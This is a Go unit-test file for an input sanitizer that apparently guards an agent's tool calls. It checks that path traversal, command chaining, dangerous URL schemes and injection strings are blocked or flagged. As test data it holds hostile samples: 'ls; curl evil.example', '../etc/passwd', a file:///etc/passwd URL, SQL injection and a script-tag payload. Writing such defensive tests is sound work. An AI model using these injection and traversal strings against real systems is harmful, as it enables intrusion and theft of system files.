package sanitize

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"
)

func TestSanitizePath_TraversalAlwaysErrors(t *testing.T) {
	// Traversal must error even when an allow-list prefix would match.
	for _, allowed := range [][]string{nil, {"/tmp"}, {"/"}} {
		_, err := SanitizePath("../etc/passwd", allowed)
		assert.Error(t, err, "allowed=%v", allowed)

		_, err = SanitizePath("/tmp/../etc/passwd", allowed)
		assert.Error(t, err, "allowed=%v", allowed)
	}
}

func TestSanitizePath_AllowedPrefixes(t *testing.T) {
	clean, err := SanitizePath("/tmp/file.txt", []string{"/tmp"})
	require.NoError(t, err)
	assert.Equal(t, "/tmp/file.txt", clean)

	_, err = SanitizePath("/etc/hosts", []string{"/tmp"})
	assert.Error(t, err)
}

func TestSanitizePath_MalformedInput(t *testing.T) {
	_, err := SanitizePath(strings.Repeat("a", MaxPathBytes), nil)
	assert.Error(t, err)

	_, err = SanitizePath("/tmp/fi\x00le", nil)
	assert.Error(t, err)

	_, err = SanitizePath("/tmp/fi\x07le", nil)
	assert.Error(t, err)
}

func TestSanitizePath_NormalizesSlashes(t *testing.T) {
	clean, err := SanitizePath("  /tmp//sub///file.txt ", nil)
	require.NoError(t, err)
	assert.Equal(t, "/tmp/sub/file.txt", clean)
}

func TestSanitize_CommandMetacharactersBlock(t *testing.T) {
	s := NewSanitizer()
	res := s.Sanitize(map[string]any{"command": "ls; curl evil.example"}, "execute_command", Options{})

	assert.True(t, res.Blocked)
	assert.Contains(t, res.Reason, "metacharacter")
	// Sanitized params are still returned for auditing.
	assert.Contains(t, res.Params, "command")
}

func TestSanitize_StrictModeSuspiciousCommand(t *testing.T) {
	s := NewSanitizer()

	res := s.Sanitize(map[string]any{"command": "sudo apt install x"}, "execute_command", Options{})
	assert.False(t, res.Blocked, "suspicious fragments only block in strict mode")

	res = s.Sanitize(map[string]any{"command": "sudo apt install x"}, "execute_command", Options{StrictMode: true})
	assert.True(t, res.Blocked)
}

func TestSanitize_CommandTruncation(t *testing.T) {
	s := NewSanitizer()
	long := strings.Repeat("a", MaxCommandBytes+100)
	res := s.Sanitize(map[string]any{"command": long}, "execute_command", Options{})

	require.False(t, res.Blocked)
	assert.Len(t, res.Params["command"], MaxCommandBytes)
	require.Len(t, res.Warnings, 1)
	assert.Contains(t, res.Warnings[0], "truncated")
}

func TestSanitize_URLSchemes(t *testing.T) {
	s := NewSanitizer()

	for _, bad := range []string{
		"javascript:alert(1)",
		"data:text/html;base64,PHNjcmlwdD4=",
		"vbscript:msgbox(1)",
		"file:///etc/passwd",
	} {
		res := s.Sanitize(map[string]any{"url": bad}, "http_request", Options{})
		assert.True(t, res.Blocked, "url %q should block", bad)
	}

	res := s.Sanitize(map[string]any{"url": " https://api.example.com/v1 "}, "http_request", Options{})
	assert.False(t, res.Blocked)
	assert.Equal(t, "https://api.example.com/v1", res.Params["url"])

	res = s.Sanitize(map[string]any{"url": "not a url"}, "http_request", Options{})
	assert.True(t, res.Blocked)
}

func TestSanitize_GenericInjectionWarnings(t *testing.T) {
	s := NewSanitizer()
	res := s.Sanitize(map[string]any{
		"query":   "1' or '1'='1",
		"comment": "<script>alert(1)</script>",
		"data":    "clean value",
	}, "search", Options{})

	assert.False(t, res.Blocked)
	assert.Len(t, res.Warnings, 2)
}

func TestSanitize_BlockOnSuspicion(t *testing.T) {
	s := NewSanitizer()
	res := s.Sanitize(map[string]any{"query": "union select * from users"}, "search",
		Options{BlockOnSuspicion: true})

	assert.True(t, res.Blocked)
	assert.Contains(t, res.Reason, "suspicious parameters")
	assert.NotNil(t, res.Params["query"])
}

func TestSanitize_ListElementsGetIndexedWarnings(t *testing.T) {
	s := NewSanitizer()
	res := s.Sanitize(map[string]any{
		"queries": []any{"clean", "drop table users"},
	}, "search", Options{})

	require.Len(t, res.Warnings, 1)
	assert.Contains(t, res.Warnings[0], "queries[1]")
}

func TestSanitize_NestedMaps(t *testing.T) {
	s := NewSanitizer()
	res := s.Sanitize(map[string]any{
		"request": map[string]any{
			"path": "/tmp//file.txt",
		},
	}, "read_file", Options{})

	assert.False(t, res.Blocked)
	nested := res.Params["request"].(map[string]any)
	assert.Equal(t, "/tmp/file.txt", nested["path"])
}

func TestSanitize_StrictModeStripsControlChars(t *testing.T) {
	s := NewSanitizer()

	res := s.Sanitize(map[string]any{"data": "a\x01b\x02c"}, "tool", Options{StrictMode: true})
	assert.Equal(t, "abc", res.Params["data"])

	// Non-strict mode keeps control chars but always strips NUL.
	res = s.Sanitize(map[string]any{"data": "a\x00b\x01c"}, "tool", Options{})
	assert.Equal(t, "ab\x01c", res.Params["data"])
}

func TestSanitize_NonStringValuesPassThrough(t *testing.T) {
	s := NewSanitizer()
	res := s.Sanitize(map[string]any{
		"count":   float64(3),
		"enabled": true,
		"nothing": nil,
	}, "tool", Options{})

	assert.False(t, res.Blocked)
	assert.Equal(t, float64(3), res.Params["count"])
	assert.Equal(t, true, res.Params["enabled"])
	assert.Nil(t, res.Params["nothing"])
}

// TestSanitize_Idempotent verifies that re-sanitizing already-clean output
// produces no new warnings and no changes.
func TestSanitize_Idempotent(t *testing.T) {
	s := NewSanitizer()

	rapid.Check(t, func(t *rapid.T) {
		params := map[string]any{
			"data":  rapid.StringMatching(`[ -~]*`).Draw(t, "data"),
			"query": rapid.StringMatching(`[a-z0-9 ]*`).Draw(t, "query"),
		}
		first := s.Sanitize(params, "tool", Options{})
		if first.Blocked {
			t.Skip("blocked inputs are not re-fed")
		}
		second := s.Sanitize(first.Params, "tool", Options{})
		if len(second.Warnings) > len(first.Warnings) {
			t.Fatalf("second pass added warnings: %v -> %v", first.Warnings, second.Warnings)
		}
		if second.Params["data"] != first.Params["data"] {
			t.Fatalf("second pass changed data: %q -> %q", first.Params["data"], second.Params["data"])
		}
	})
}

func TestSanitize_NeverPanicsOnArbitraryInput(t *testing.T) {
	s := NewSanitizer()

	rapid.Check(t, func(t *rapid.T) {
		params := map[string]any{
			"path":    rapid.String().Draw(t, "path"),
			"command": rapid.String().Draw(t, "command"),
			"url":     rapid.String().Draw(t, "url"),
			"other":   rapid.String().Draw(t, "other"),
		}
		res := s.Sanitize(params, "tool", Options{StrictMode: true, BlockOnSuspicion: true})
		if res == nil {
			t.Fatal("nil result")
		}
	})
}
